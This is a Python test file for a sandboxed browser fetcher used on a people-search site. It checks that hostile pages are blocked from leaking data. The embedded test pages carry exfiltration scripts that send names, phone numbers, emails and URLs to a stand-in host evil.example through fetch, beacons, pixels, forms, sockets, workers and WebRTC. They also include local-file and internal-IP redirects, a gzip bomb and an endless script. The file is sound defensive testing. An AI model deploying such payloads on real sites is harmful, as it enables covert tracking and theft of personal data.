"""Hostile pages in a real browser. Every host is mapped to the recording town, so that what leaks arrives and is seen."""

import asyncio
import gzip
import json
import time
from dataclasses import replace

import pytest

from safetycheck.errors import FetchFailed, Refused

HOST, RESULTS, ASSETS, EVIL = "town-people.example", "results.town-people.example", "static.example-cdn.example", "evil.example"
ASK = "/find/Marisol-De-La-Cruz/Minnesota"

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

# Marks the page when all its pieces, and those of its frames, have come or were refused.
LOADED = "<script>onload = () => document.documentElement.id = 'done'</script>"


@pytest.fixture
def ask(shared, broker, gate, ask_for):
    """Serve a body for the question, ask it in the browser, and give back the page and what was refused."""

    async def make(body=None, *, linger=0.0, limit=None, until=None):
        steps = [{"open": f"https://{HOST}/find/{{first|slug}}-{{last|slug}}/{{state|state_name|slug}}"}]
        steps += [{"wait": until, "seconds": 60}] if until else []
        one = broker(*steps, via="browser")
        if body is not None:
            shared.town.page(ASK, body)
        async with shared.session(one, gate) as session:
            session._manners = replace(session._manners, limit=limit or session._manners.limit)
            page = await session.ask(ask_for(one))
            await asyncio.sleep(linger)
            return page, dict(session.refused)

    return make


async def test_a_script_can_tell_another_host_nothing(shared, ask):
    _, refused = await ask(f"""<script>
        const there = encodeURIComponent(location.href), post = {{method: "POST", mode: "no-cors", body: location.href}};
        fetch("https://{EVIL}/fetch", post);
        navigator.sendBeacon("https://{EVIL}/beacon", location.href);
        new Image().src = "https://{EVIL}/pixel?u=" + there;
        const form = document.createElement("form");
        form.action = "https://{EVIL}/form"; form.target = "inner"; form.innerHTML = "<input name=n value=Marisol>";
        onload = () => {{ document.body.append(form); form.submit(); link.click() }};
        </script><iframe name=inner></iframe><a id=link href="#" ping="https://{EVIL}/ping">x</a>
        <link rel=stylesheet href="https://{EVIL}/style"><iframe src="https://{EVIL}/frame"></iframe>""")
    assert shared.town.hosts() == {HOST}
    assert refused[f"{EVIL} is not a host that the definition declares"] >= 5


async def test_a_host_of_scripts_is_told_nothing(shared, ask):
    shared.town.page(f"{ASSETS}/plain.js", "document.title = 'loaded'", content_type="text/javascript")
    page, refused = await ask(f"""<script src="https://{ASSETS}/plain.js"></script>
        <img referrerpolicy=unsafe-url src="https://{ASSETS}/referred"><script>
        new Image().src = "https://{ASSETS}/pixel?u=" + encodeURIComponent(location.href);
        fetch("https://{ASSETS}/post", {{method: "POST", mode: "no-cors", body: "anything"}});
        </script><iframe src="https://{ASSETS}/frame"></iframe>""")
    sent = [seen for seen in shared.town.seen if seen.host == ASSETS]
    assert [seen.target for seen in sent] == ["/plain.js"]
    assert sent[0].headers["referer"] == f"https://{HOST}/"
    assert "<title>loaded" in page.html
    assert refused["it would tell a name of yours that was not agreed"] == 2


async def test_an_undisclosed_value_is_not_sent_even_to_the_broker(shared, ask, ledger):
    _, refused = await ask("""<script>
        fetch("/log?former=Dana%20Rivers"); fetch("/log", {method: "POST", body: JSON.stringify({tel: "218.555.0123"})});
        fetch("/log", {headers: {"X-Mail": "marisol.c@example.org"}}); fetch("/log?q=marisol");
        </script>""")
    assert [seen.target for seen in shared.town.seen if seen.path == "/log"] == ["/log?q=marisol"]
    assert {reason for reason in refused if "yours" in reason} == {
        f"it would tell a {field} of yours that was not agreed" for field in ("name", "phone", "email")
    }
    assert [(line.path, [told.field for told in line.told]) for line in ledger] == [
        (ASK, ["first", "last", "state"]),
        ("/log", ["first"]),
    ]


async def test_redirects_of_pieces_pass_the_gate_too(shared, ask):
    shared.town.redirect("/to-assets", f"https://{ASSETS}/got?n=Marisol+De+La+Cruz")
    shared.town.redirect("/to-evil", f"https://{EVIL}/got")
    shared.town.redirect("/to-plain", f"https://{ASSETS}/plain.png")
    shared.town.page(f"{RESULTS}/frame", "<img src=/to-assets>")
    await ask(
        f"<img src=/to-assets><img src=/to-evil><img src=/to-plain><iframe src='https://{RESULTS}/frame'></iframe>{LOADED}",
        until="#done",
    )
    assert [seen.target for seen in shared.town.seen if seen.host not in {HOST, RESULTS}] == ["/plain.png"]
    assert {"/to-assets", "/to-evil", "/to-plain"} <= set(shared.town.paths())
    assert "/to-assets" in shared.town.paths(RESULTS)


async def test_workers_pass_the_gate_too(shared, ask):
    script = f"""try {{ new WebSocket('wss://{EVIL}/worker') }} catch (e) {{}}
        const told = [fetch('/worker?n=Dana'), fetch('/worker?n=fine'), fetch('https://{EVIL}/worker', {{mode: 'no-cors'}})];
        Promise.allSettled(told).then(() => postMessage('done'))"""
    shared.town.page("/worker.js", script, content_type="text/javascript")
    shared.town.page("/shared.js", "fetch('/from-shared')", content_type="text/javascript")
    page, refused = await ask(
        """<body><script>new Worker('/worker.js').onmessage = () => document.documentElement.id = 'done';
        try { new SharedWorker('/shared.js') } catch (e) { document.title = 'none shared' }
        document.body.append('serviceWorker' in navigator ? 'there' : 'no service worker');
        </script>""",
        linger=0.5,
        until="#done",
    )
    assert shared.town.hosts() == {HOST}
    assert [seen.target for seen in shared.town.seen if seen.path == "/worker"] == ["/worker?n=fine"]
    assert "/from-shared" not in shared.town.paths()
    assert "no service worker</body>" in page.html
    assert "<title>none shared</title>" in page.html
    assert refused[f"a connection to {EVIL}"] >= 1


async def test_no_socket_and_no_window(shared, ask):
    _, refused = await ask(
        f"""<script>new WebSocket('wss://{HOST}/socket'); new WebSocket('wss://{EVIL}/socket');
        open('https://{EVIL}/popup'); open('/own-popup'); alert('hello'); confirm('really?')</script>""",
        linger=0.5,
    )
    assert shared.town.hosts() == {HOST}
    assert not {"/socket"} & set(shared.town.paths())
    assert refused["a WebSocket"] == 2
    assert refused["a new window"] >= 1


async def test_nothing_is_fetched_on_a_guess(shared, ask):
    rules = {
        kind: [{"urls": [f"https://{host}/{kind}"], "eagerness": "immediate"} for host in (HOST, EVIL)]
        for kind in ("prefetch", "prerender")
    }
    await ask(
        f"""<link rel=preconnect href="https://{EVIL}"><link rel=dns-prefetch href="//{EVIL}">
        <link rel=prefetch href="https://{EVIL}/p"><link rel=prerender href="https://{EVIL}/p">
        <link rel=preload as=script href="https://{EVIL}/p"><link rel=modulepreload href="https://{EVIL}/p">
        <script type=speculationrules>{json.dumps(rules)}</script>""",
        linger=1.0,
    )
    assert shared.town.hosts() == {HOST}
    assert shared.town.paths() == [ASK]


async def test_no_datagram_leaves(shared, ask):
    """WebRTC and WebTransport go around every proxy, unless they are off."""
    got = []

    class Recorder(asyncio.DatagramProtocol):
        def datagram_received(self, data, _):
            got.append(data)

    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(Recorder, local_addr=("127.0.0.1", 0))
    port = transport.get_extra_info("sockname")[1]
    page, _ = await ask(
        f"""<script>
        const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
        const told = document.createElement("i"); document.documentElement.append(told);
        peer.onicecandidate = e => {{ if (e.candidate) told.textContent += e.candidate.candidate + ";" }};
        peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o));
        new WebTransport("https://127.0.0.1:{port}/x").ready.catch(() => {{}});
        </script>""",
        linger=1.0,
    )
    transport.close()
    assert got == []
    assert "candidate:" not in page.html


@pytest.mark.parametrize(
    "target", ["file:///etc/hostname", "http://127.0.0.1:9/", "https://127.0.0.1/", "https://2130706433/", "https://10.0.0.1/x"]
)
async def test_a_page_can_not_go_to_this_machine(shared, ask, target):
    with pytest.raises(Refused) if not target.startswith("file") else pytest.raises(AssertionError):
        await ask(f"<p>one</p><script>location.href = {json.dumps(target)}</script>")
        raise AssertionError
    assert shared.town.hosts() == {HOST}


async def test_a_frame_can_not_show_a_file(ask):
    page, _ = await ask("<p>one</p><iframe src='file:///etc/hostname'></iframe><iframe src='http://127.0.0.1:1/'></iframe>")
    assert "data-frame" not in page.html


@pytest.mark.parametrize(
    "body",
    [f"<script>location = 'https://{EVIL}/?n=Marisol'</script>", f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>"],
)
async def test_a_funnel_to_another_company_is_said(shared, ask, body):
    with pytest.raises(FetchFailed, match=f"the site sent us to another company: {EVIL}"):
        await ask(body)
    assert shared.town.hosts() == {HOST}


async def test_a_redirect_to_another_company_is_said(shared, ask):
    shared.town.redirect(ASK, f"https://{EVIL}/?n=Marisol")
    with pytest.raises(FetchFailed, match="another company"):
        await ask()
    assert shared.town.hosts() == {HOST}


async def test_a_refresh_loop_ends(shared, ask):
    with pytest.raises(FetchFailed, match="in circles"):
        await ask("<meta http-equiv=refresh content=0>")
    assert len(shared.town.paths()) <= 12


async def test_a_redirect_loop_ends(shared, ask):
    shared.town.redirect(ASK, ASK)
    with pytest.raises(FetchFailed, match="in circles"):
        await ask()
    assert len(shared.town.paths()) <= 12


async def test_a_download_is_no_page(shared, ask):
    shared.town.page(ASK, b"MZ" * 1000, content_type="application/octet-stream", content_disposition="attachment")
    with pytest.raises(FetchFailed, match="it sent a file and no page"):
        await ask()


async def test_a_download_beside_the_page_is_refused(ask):
    _, refused = await ask("<a id=a download=x href='data:text/plain,hello'>x</a><script>a.click()</script>", linger=0.5)
    assert refused["a download"] == 1


@pytest.mark.slow
async def test_a_bomb_costs_no_more_than_its_limit(shared, ask):
    """100 MB of text in 100 kB: more than eight times what a page may hold here."""

    async def bomb(writer, seen):
        packed = gzip.compress(b"x" * 100_000_000)
        head = "HTTP/1.1 200 X\r\ncontent-type: text/html\r\ncontent-encoding: gzip\r\n"
        writer.write(f"{head}content-length: {len(packed)}\r\n\r\n".encode() + packed)

    shared.town.pages[ASK] = bomb
    began = time.monotonic()
    with pytest.raises(FetchFailed, match=r"more than a page may hold|longer than"):
        await ask(limit=15)
    assert time.monotonic() - began < 100


@pytest.mark.slow
async def test_an_endless_script_costs_its_time_limit_and_the_next_page_is_read(shared, ask, broker, gate, ask_for):
    with pytest.raises(FetchFailed, match="longer than 8 seconds"):
        await ask("<p>x</p><script>for (;;) {}</script>", limit=8)
    page, _ = await ask("<p>still here</p>")
    assert "still here" in page.html


async def test_a_new_context_remembers_nothing(shared, ask):
    await ask("<script>document.cookie = 'who=1; path=/; max-age=9999'; localStorage.who = 1</script>")
    page, _ = await ask("<script>document.write('[' + document.cookie + localStorage.who + ']')</script>")
    assert "[undefined]" in page.html
    assert "cookie" not in shared.town.seen[-1].headers


async def test_a_page_that_is_done_with_sends_nothing_more(shared, ask):
    """What outlives its page (a beacon, a kept-alive request, the tab's icon) can be watched no more: the way out is shut."""
    await ask(
        f"""<script>
        const late = way => {{
            navigator.sendBeacon("/late/beacon/" + way, location.href);
            fetch("/late/kept/" + way, {{method: "POST", keepalive: true, body: location.href}});
            fetch("https://{ASSETS}/late/" + way, {{method: "POST", mode: "no-cors", keepalive: true, body: location.href}});
        }};
        for (const way of ["pagehide", "unload"]) addEventListener(way, () => late(way));
        document.addEventListener("visibilitychange", () => late("hidden"));
        </script>""",
        linger=1.0,
    )
    assert [seen.target for seen in shared.town.seen if "late" in seen.target] == []
